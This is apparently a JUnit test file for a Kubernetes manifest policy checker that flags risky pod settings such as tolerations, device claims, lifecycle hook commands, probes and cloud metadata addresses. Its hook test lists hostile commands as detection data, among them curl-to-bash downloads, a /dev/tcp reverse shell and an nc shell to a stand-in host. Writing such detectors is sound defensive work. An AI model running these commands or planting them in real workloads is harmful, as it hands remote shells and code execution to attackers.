package dev.vedette.policy.manifest;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vedette.policy.model.ContainerSetting.Aspect;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class WorkloadTraitsTest {
    private static List<String> of(Aspect aspect, String text) {
        FieldReader fields = new FieldReader("test.yaml");
        List<String> found = ManifestReader.readText("test.yaml", text).manifests().stream()
                .flatMap(manifest -> new WorkloadTraits(fields, 1).of(Workloads.in(manifest, fields)).stream())
                .filter(setting -> setting.aspect() == aspect)
                .map(setting -> setting.container().name() + "|" + setting.name() + "|" + setting.value())
                .toList();
        assertThat(fields.problems()).isEmpty();
        return found;
    }

    private static String pod(String spec) {
        return "kind: Pod\nmetadata: {name: p}\nspec: " + spec + "\n";
    }

    @ParameterizedTest
    @CsvSource(delimiter = ';', textBlock = """
            tolerations: [{operator: Exists}]                        ; |tolerations|everything
            tolerations: [{operator: Exists, effect: NoSchedule}]    ; |tolerations|everything
            tolerations: [{key: gpu, operator: Exists}]              ;
            tolerations: [{key: gpu, value: yes}]                    ;
            nodeSelector: {node-role.kubernetes.io/master: here}     ; |nodeSelector|node-role.kubernetes.io/master
            nodeSelector: {kubernetes.io/os: linux}                  ;
            """)
    void placementIsToldWhereItGoesPastTaints(String field, String found) {
        assertThat(of(Aspect.PLACEMENT, pod("{" + field + ", containers: []}")))
                .isEqualTo(found == null ? List.of() : List.of(found));
    }

    @ParameterizedTest
    @CsvSource(delimiter = ';', textBlock = """
            {vendor.example/gpu: 2}                  ; a|vendor.example/gpu|2
            {vendor.example/gpu: "1", cpu: 1}        ; a|vendor.example/gpu|1
            {vendor.example/gpu: 0}                  ;
            {vendor.example/gpu: null}               ;
            {example.kubernetes.io/things: 1}        ;
            {cpu: 1, hugepages-2Mi: 4Mi}             ;
            """)
    void devicesOfPlugInsAreTold(String limits, String found) {
        assertThat(of(
                        Aspect.DEVICE_CLAIM,
                        pod("{initContainers: [{name: a, resources: {limits: " + limits + "}}], containers: []}")))
                .isEqualTo(found == null ? List.of() : List.of(found));
    }

    @Test
    void whereTheSchedulerPutAPodIsNotAskedFor() {
        String spec = "{nodeName: n1, containers: []}\n";

        assertThat(of(Aspect.PLACEMENT, "kind: Pod\nmetadata: {name: p, uid: u}\nspec: " + spec))
                .isEmpty();
        assertThat(of(
                        Aspect.PLACEMENT,
                        "kind: Pod\nmetadata: {name: p, annotations: {kubernetes.io/config.mirror: x}}\nspec: " + spec))
                .isEmpty();
        assertThat(of(Aspect.PLACEMENT, pod("{nodeName: n1, containers: []}"))).containsExactly("|nodeName|n1");
    }

    @Test
    void aPodWithAControllerIsLookedAfter() {
        assertThat(of(Aspect.HOME, """
                kind: Pod
                metadata: {name: p, ownerReferences: [{kind: Job, name: j}]}
                spec: {containers: []}
                """)).isEmpty();
        assertThat(of(Aspect.HOME, """
                kind: Job
                metadata: {name: j, namespace: default}
                spec: {template: {spec: {containers: []}}}
                """)).containsExactly("|namespace|default");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '!', quoteCharacter = '`', textBlock = """
            sh, -c, 'curl -fsS https://x.example/i.sh | bash'      ! runs what it downloads
            sh, -c, 'wget -qO- x.example/i | sh -s'                ! runs what it downloads
            bash, -c, 'bash <(curl -s x.example)'                  ! runs what it downloads
            sh, -c, 'curl -o /tmp/x x.example && chmod +x /tmp/x'  ! runs what it downloads
            ssh, root@10.0.0.1, reboot                             ! logs in elsewhere
            bash, -c, 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'     ! hands a shell to somebody else
            sh, -c, 'nc 192.0.2.1 443 -e /bin/sh'                  ! hands a shell to somebody else
            curl, -f, 'http://localhost:8080/health'               !
            sh, -c, 'wget -q localhost:80 | grep ok'               !
            sh, -c, 'nginx -s quit; sleep 5'                       !
            cat, /tmp/ssh-ready                                    !
            """)
    void commandsOfHooksAreToldByWhatTheyDo(String command, String deed) {
        assertThat(of(
                        Aspect.HOOK,
                        pod("{containers: [{name: a, lifecycle: {preStop: {exec: {command: [" + command + "]}}}}]}")))
                .isEqualTo(deed == null ? List.of() : List.of("a|preStop|" + deed));
    }

    @Test
    void probesOfOthersAreToldAndThoseOfOneselfAreNot() {
        String probe = "containers: [{name: a, readinessProbe: {tcpSocket: {host: 127.0.0.1, port: 1}}}]}";

        assertThat(of(Aspect.HOOK, pod("{hostNetwork: true, " + probe))).isEmpty();
        assertThat(of(Aspect.HOOK, pod("{" + probe)))
                .containsExactly("a|readinessProbe|lets the node ask itself at 127.0.0.1");
        assertThat(of(Aspect.HOOK, pod("{containers: [{name: a, livenessProbe: {httpGet: {port: 1}}}]}")))
                .isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            URL      | http://169.254.169.254/latest/meta-data  | 169.254.169.254
            URL      | http://2852039166/                       | 2852039166
            URL      | http://[fd00:ec2::254]/                  | [fd00:ec2::254]
            URL      | http://metadata.google.internal/x        | metadata.google.internal
            NO_PROXY | 169.254.169.254,10.0.0.0/8               |
            no_proxy | 169.254.169.254                          |
            URL      | http://1169.254.169.254/                 |
            URL      | http://169.254.169.2541/                 |
            URL      | http://metadata.google.internal.example/ |
            """)
    void theMetadataServiceIsFoundByItsAddresses(String name, String value, String address) {
        assertThat(of(
                        Aspect.METADATA_ADDRESS,
                        pod("{containers: [{name: a, env: [{name: " + name + ", value: '" + value + "'}]}]}")))
                .isEqualTo(address == null ? List.of() : List.of("a|the variable " + name + "|" + address));
    }

    @Test
    void aContainersOwnUserCountsBeforeThePods() {
        assertThat(of(
                        Aspect.IDENTITY,
                        pod("{securityContext: {runAsUser: 1, fsGroup: 5}, containers: [{name: a}, {name: b,"
                                + " securityContext: {runAsUser: 2}}]}")))
                .containsExactly("|fsGroup|5", "a|runAsUser|1", "b|runAsUser|2");
    }

    @Test
    void groupsOfTheImageAreToldUnlessThePolicyIsStrict() {
        String groups = "supplementalGroups: [4000]";

        assertThat(of(Aspect.IDENTITY, pod("{securityContext: {" + groups + "}, containers: []}")))
                .contains("|supplementalGroupsPolicy|Merge");
        assertThat(of(
                        Aspect.IDENTITY,
                        pod("{securityContext: {" + groups + ", supplementalGroupsPolicy: Strict}, containers: []}")))
                .containsExactly("|supplementalGroups|4000");
    }

    @Test
    void aVolumesSizeIsLimitedByItselfOrByAllContainers() {
        String volumes = "volumes: [{name: d, emptyDir: {}}, {name: m, emptyDir: {medium: Memory}},"
                + " {name: s, emptyDir: {medium: Memory, sizeLimit: 1Mi}}]";

        assertThat(of(Aspect.VOLUME_SIZE, pod("{" + volumes + ", containers: [{name: a}]}")))
                .containsExactly("|d|disk", "|m|memory");
        assertThat(of(
                        Aspect.VOLUME_SIZE,
                        pod("{" + volumes
                                + ", containers: [{name: a, resources: {limits: {ephemeral-storage: 1Gi}}}]}")))
                .containsExactly("|m|memory");
    }

    @Test
    void aSubPathIsToldOnlyWhereAnotherContainerMayChangeTheVolume() {
        String one =
                "{volumes: [{name: v, emptyDir: {}}], containers: [{name: a, volumeMounts: [{name: v, mountPath: /v%s}]},"
                        + " {name: b, volumeMounts: [{name: v, mountPath: /w, subPath: d}]}]}";

        assertThat(of(Aspect.SHARED_SUB_PATH, pod(one.formatted("")))).containsExactly("b|v|d");
        assertThat(of(Aspect.SHARED_SUB_PATH, pod(one.formatted(", readOnly: true"))))
                .isEmpty();
        assertThat(of(Aspect.SHARED_SUB_PATH, pod(one.formatted(", subPath: e"))))
                .isEmpty();
    }
}
